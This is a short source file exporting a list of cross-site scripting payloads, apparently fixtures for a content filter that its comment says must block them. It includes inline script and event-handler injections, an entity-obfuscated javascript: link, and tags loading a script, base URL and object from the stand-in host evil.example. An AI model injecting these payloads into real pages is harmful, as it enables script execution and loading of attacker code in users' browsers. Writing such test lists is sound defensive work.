/** Markup that runs code or loads other sites' resources. The content check and the build must block it. */
export const payloads = [
  "<script>alert(document.domain)</script>",
  '<img src="/a.png" onerror="alert(1)">',
  '<a href="java&#115;cript:alert(1)">Read more</a>',
  '<script src="https://evil.example/a.js"></script>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<base href="https://evil.example/">',
  '<svg onload="alert(1)"></svg>',
  '<object data="https://evil.example/a.swf"></object>',
];
